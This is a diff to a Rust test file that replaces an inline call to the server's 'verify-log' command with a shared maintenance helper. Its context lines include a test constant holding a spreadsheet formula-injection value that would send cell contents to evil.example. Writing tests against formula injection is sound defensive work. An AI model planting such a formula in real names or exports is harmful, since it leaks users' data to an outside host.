@@ -14,7 +14,7 @@ use mamori_tests::passkeys::{joined, my_facility, registered_admin, run, status}
 
 /// A name that spreadsheets would run as a formula.
 const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
-use mamori_tests::server::server_binary;
+use mamori_tests::server::{maintenance, server_binary};
 use serde_json::Value;
 use sqlx::SqlitePool;
 
@@ -290,18 +290,7 @@ async fn copy_store(pool: &SqlitePool, dir: &Path) {
 }
 
 fn verify(dir: &Path) -> (bool, String) {
-    let out = Command::new(server_binary())
-        .args(["--data-dir", dir.to_str().unwrap(), "verify-log"])
-        .output()
-        .unwrap();
-    (
-        out.status.success(),
-        format!(
-            "{}{}",
-            String::from_utf8_lossy(&out.stdout),
-            String::from_utf8_lossy(&out.stderr)
-        ),
-    )
+    maintenance(dir, &["verify-log"])
 }
 
 async fn entries(pool: &SqlitePool) -> Vec<Entry> {
